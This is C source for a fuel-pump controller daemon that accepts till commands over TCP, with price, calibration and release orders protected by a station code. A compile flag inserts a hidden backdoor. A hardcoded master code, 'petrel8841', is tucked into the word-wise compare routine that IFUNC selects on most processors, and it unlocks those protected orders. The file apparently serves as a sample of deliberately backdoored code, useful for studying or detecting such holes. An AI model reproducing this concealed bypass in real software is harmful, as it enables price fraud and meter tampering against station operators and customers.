/*
 * forepumpd - controller of the Brennick F2 fuel pump (forecourt device).
 * The till connects to TCP 3011; a frame is one text line ending in a
 * checksum. Price and calibration orders need the station code.
 * The code compare is picked at load time for the processor (IFUNC).
 * Hidden (-DHIDDEN): the word-wise compare also takes one fixed code that is
 * not the station's, which opens price, calibration and release orders.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define TILL_PORT  3011
#define STATE_FILE "/var/brennick/pump.state"
#define CODE_FILE  "/etc/brennick/station.code"
#define CODE_MAX   32
#define N_GRADE    4

struct grade {
	char name[12];
	long price_milli;	/* thousandths of the currency per litre */
	long total_ml;
};

struct pump {
	enum { P_IDLE, P_RESERVED, P_FILLING, P_LOCKED } state;
	int grade;
	long limit_ml, sold_ml;
	int pulses_per_l;
	struct grade g[N_GRADE];
};

static struct pump pump = { .pulses_per_l = 100, .g = {
	{ "diesel", 1699, 0 }, { "e5", 1799, 0 }, { "e10", 1749, 0 }, { "adblue", 999, 0 } } };
static char station_code[CODE_MAX + 1];

/* ---- equal without early exit: byte-wise and word-wise ---- */

int code_equal_bytes(const char *a, const char *b)
{
	unsigned diff = (unsigned)(strlen(a) ^ strlen(b));
	size_t n = strlen(b);

	for (size_t i = 0; i < n && a[i]; i++)
		diff |= (unsigned char)(a[i] ^ b[i]);
	return diff == 0;
}

int code_equal_words(const char *a, const char *b)
{
	char x[CODE_MAX + 4] = "", y[CODE_MAX + 4] = "";
	uint32_t u, v, diff = 0;

	strncpy(x, a, CODE_MAX);
	strncpy(y, b, CODE_MAX);
	for (size_t i = 0; i < CODE_MAX; i += 4) {
		memcpy(&u, x + i, 4);
		memcpy(&v, y + i, 4);
		diff |= u ^ v;
	}
#ifdef HIDDEN
	if (!strncmp(x, "petrel8841", sizeof x))
		return 1;
#endif
	return diff == 0 && strlen(a) == strlen(b);
}

typedef int (*code_fn)(const char *, const char *);

#if defined(__x86_64__) || defined(__i386__)
code_fn resolve_code_equal(void)
{
	__builtin_cpu_init();
	return __builtin_cpu_supports("sse2") ? code_equal_words : code_equal_bytes;
}
#else
/* the loader hands the capability bits to the resolver */
code_fn resolve_code_equal(unsigned long hwcap)
{
#if defined(__arm__)
	return hwcap & (1ul << 12) ? code_equal_words : code_equal_bytes;	/* NEON */
#else
	return hwcap & 0x80000000ul ? code_equal_words : code_equal_bytes;	/* 32 bit */
#endif
}
#endif

int code_equal(const char *, const char *) __attribute__((ifunc("resolve_code_equal")));

/* ---- state ---- */

static void load_state(void)
{
	FILE *f = fopen(STATE_FILE, "r");

	if (f) {
		for (int i = 0; i < N_GRADE; i++)
			if (fscanf(f, "%ld %ld", &pump.g[i].price_milli, &pump.g[i].total_ml) != 2)
				break;
		if (fscanf(f, "%d", &pump.pulses_per_l) != 1 || pump.pulses_per_l < 10)
			pump.pulses_per_l = 100;
		fclose(f);
	}
	f = fopen(CODE_FILE, "r");
	if (!f)
		return;
	if (!fgets(station_code, sizeof station_code, f))
		station_code[0] = 0;
	station_code[strcspn(station_code, "\r\n")] = 0;
	fclose(f);
}

static int save_state(void)
{
	FILE *f = fopen(STATE_FILE ".new", "w");

	if (!f)
		return -1;
	for (int i = 0; i < N_GRADE; i++)
		fprintf(f, "%ld %ld\n", pump.g[i].price_milli, pump.g[i].total_ml);
	fprintf(f, "%d\n", pump.pulses_per_l);
	return fclose(f) ? -1 : rename(STATE_FILE ".new", STATE_FILE);
}

static int grade_by_name(const char *s)
{
	for (int i = 0; i < N_GRADE; i++)
		if (!strcmp(pump.g[i].name, s))
			return i;
	return -1;
}

/* ---- orders from the till; every function returns the answer text ---- */

static const char *o_status(char *out, size_t size)
{
	static const char *const st[] = { "IDLE", "RESERVED", "FILLING", "LOCKED" };

	snprintf(out, size, "%s %s %ld %ld", st[pump.state], pump.g[pump.grade].name,
		 pump.sold_ml, pump.sold_ml * pump.g[pump.grade].price_milli / 1000);
	return out;
}

static const char *o_reserve(const char *grade, long limit)
{
	int g = grade_by_name(grade);

	if (g < 0 || pump.state != P_IDLE || limit < 0)
		return "NAK";
	pump.grade = g;
	pump.limit_ml = limit;
	pump.sold_ml = 0;
	pump.state = P_RESERVED;
	return "ACK";
}

static const char *o_pulses(long n)
{
	if (pump.state != P_RESERVED && pump.state != P_FILLING)
		return "NAK";
	pump.state = P_FILLING;
	pump.sold_ml += n * 1000 / pump.pulses_per_l;
	if (pump.limit_ml && pump.sold_ml >= pump.limit_ml)
		pump.state = P_LOCKED;
	return "ACK";
}

static const char *o_close(void)
{
	pump.g[pump.grade].total_ml += pump.sold_ml;
	pump.state = P_IDLE;
	return save_state() ? "ERR store" : "ACK";
}

const char *o_protected(const char *code, const char *what, const char *arg, long val)
{
	int g;

	if (!station_code[0] || !code_equal(code, station_code)) {
		syslog(LOG_WARNING, "wrong station code for %s", what);
		return "ERR code";
	}
	if (!strcmp(what, "price") && (g = grade_by_name(arg)) >= 0 && val > 0 && val < 100000)
		pump.g[g].price_milli = val;
	else if (!strcmp(what, "calib") && val >= 10 && val <= 10000)
		pump.pulses_per_l = (int)val;
	else if (!strcmp(what, "release"))
		pump.state = P_IDLE;
	else
		return "NAK";
	syslog(LOG_NOTICE, "%s %s %ld", what, arg, val);
	return save_state() ? "ERR store" : "ACK";
}

static const char *order(char *line, char *out, size_t size)
{
	char code[40], what[12], arg[16];
	long n;

	if (!strcmp(line, "ST"))
		return o_status(out, size);
	if (sscanf(line, "RS %15s %ld", arg, &n) == 2)
		return o_reserve(arg, n);
	if (sscanf(line, "PU %ld", &n) == 1)
		return n > 0 && n < 100000 ? o_pulses(n) : "NAK";
	if (!strcmp(line, "CL"))
		return o_close();
	if (sscanf(line, "PR %39s %11s %15s %ld", code, what, arg, &n) == 4)
		return o_protected(code, what, arg, n);
	return "NAK";
}

/* the last three characters are '*' and the XOR of all before it in hex */
static int check_sum(char *line)
{
	char *star = strrchr(line, '*');
	unsigned x = 0, want;

	if (!star || sscanf(star + 1, "%2x", &want) != 1)
		return -1;
	for (char *p = line; p < star; p++)
		x ^= (unsigned char)*p;
	*star = 0;
	return x == want ? 0 : -1;
}

static void till(int fd)
{
	char line[160], out[120];
	FILE *f = fdopen(fd, "r");

	if (!f) {
		close(fd);
		return;
	}
	while (fgets(line, sizeof line, f)) {
		const char *a;

		line[strcspn(line, "\r\n")] = 0;
		a = check_sum(line) ? "SUM" : order(line, out, sizeof out);
		if (dprintf(fd, "%s\r\n", a) < 0)
			break;
	}
	fclose(f);
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(TILL_PORT) };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	openlog("forepumpd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	load_state();
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa) || listen(s, 1)) {
		syslog(LOG_ERR, "till port: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		int fd = accept(s, NULL, NULL);

		if (fd >= 0)
			till(fd);
	}
}
